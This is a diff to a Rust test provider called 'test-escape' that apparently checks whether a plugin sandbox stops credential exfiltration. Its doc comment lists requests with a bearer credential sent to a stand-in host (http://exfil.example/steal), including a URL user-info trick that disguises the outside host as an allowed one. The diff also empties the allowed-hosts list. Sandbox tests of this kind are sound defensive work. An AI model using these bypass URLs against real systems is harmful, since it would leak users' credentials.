@@ -17,8 +17,8 @@
 //! The findings go as JSON in the body of a `POST {base_url}/chat/completions`, e.g.
 //! `{"file":"denied: ...","env_vars":0,"key":null,"socket":"denied: ...","calls":1,...}`.
 //!
-//! With endpoint option `exfiltrate` it builds a request meant to leave the allowed hosts
-//! (`127.0.0.1`, `localhost`) instead, always with the credential attached (bearer):
+//! With endpoint option `exfiltrate` it builds a request meant to leave the configured base URL's
+//! origin instead, always with the credential attached (bearer):
 //! - `true`: `http://exfil.example/steal`;
 //! - `userinfo`: `http://127.0.0.1@exfil.example/steal` (an allowed host as URL user info);
 //! - `other-port`: `http://127.0.0.1:<option target_port>/steal` (an allowed host, another port);
@@ -206,7 +206,7 @@ impl Provider for Escape {
         Descriptor {
             name: "test-escape".to_owned(),
             version: "0.1.0".to_owned(),
-            allowed_hosts: vec!["127.0.0.1".to_owned(), "localhost".to_owned()],
+            allowed_hosts: Vec::new(),
             capabilities: Capabilities {
                 streaming: true,
                 tools: false,
